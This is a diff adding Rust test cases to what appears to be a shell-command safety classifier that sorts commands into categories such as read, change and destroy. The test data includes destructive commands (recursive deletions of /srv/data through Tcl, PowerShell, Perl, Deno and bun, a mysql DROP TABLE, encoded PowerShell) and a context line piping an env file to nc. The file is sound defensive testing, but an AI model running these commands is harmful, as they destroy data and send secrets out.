@@ -591,3 +591,62 @@ fn credentials_sent_to_the_network() {
         ("cat .env.example | nc example.com 80", "change"),
     ]);
 }
+
+#[test]
+fn interpreters_read_code_where_their_own_syntax_puts_it() {
+    check_all(&[
+        // Another language's interpreter reads its standard input as its code, not as a
+        // command line (`file delete` is Tcl, not file(1)); code in a language holdpoint
+        // does not read call by call is a change, or a destroy when it names one.
+        ("tclsh <<< 'file delete -force /srv/data'", "destroy"),
+        ("echo 'puts hi' | tclsh", "change"),
+        // PowerShell's parameters are whole words: `-NoProfile` is not a bundle of
+        // letters ending in `-e`.
+        (
+            "pwsh -NoProfile -c 'Remove-Item -Recurse -Force /srv/data'",
+            "destroy",
+        ),
+        ("pwsh -NoProfile -c 'Get-ChildItem'", "change"),
+        (
+            "pwsh -NoProfile -EncodedCommand cgBtACAALQByAGYA",
+            "unanalysable",
+        ),
+        ("pwsh -enc cgBtAA==", "unanalysable"),
+        // `-M` takes a module and its imports: the `i` in them is not `-i`.
+        (
+            "perl -MFile::Path=remove_tree -e 'remove_tree(\"/srv/data\")'",
+            "destroy",
+        ),
+        ("perl -pi -e 's/a/b/' notes.txt", "workspace"),
+        ("perl -lne 'print if /x/' app.log", "read"),
+        // deno and bun take JavaScript inline as node does; a tagged template calls its
+        // tag; an unknown call named for destroying is judged by its name.
+        (
+            "deno eval 'await Deno.remove(\"/srv/data\", { recursive: true })'",
+            "destroy",
+        ),
+        ("deno eval 'await Deno.stat(\"/srv/data\")'", "change"),
+        ("deno eval 'console.log(1 + 1)'", "read"),
+        ("bun -e 'await Bun.$`rm -rf /srv/data`'", "change"),
+    ]);
+}
+
+#[test]
+fn tools_do_what_their_subcommands_and_options_say() {
+    check_all(&[
+        ("python3 -m venv --clear /opt/app/venv", "destroy"),
+        ("python3 -m venv .venv", "workspace"),
+        // mysql runs `--init-command` on connecting, before `-e`.
+        (
+            "mysql --init-command='DROP TABLE users' -e 'SELECT 1' shop",
+            "destroy",
+        ),
+        ("mysql --init-command='SELECT 1' -e 'SELECT 2' shop", "read"),
+        (
+            "dotnet nuget delete Acme.Sdk 1.2.3 --source https://nuget.example.com/v3/index.json --non-interactive",
+            "destroy",
+        ),
+        ("go run github.com/acme/migrate@latest up", "change"),
+        ("go run ./cmd/server", "workspace"),
+    ]);
+}
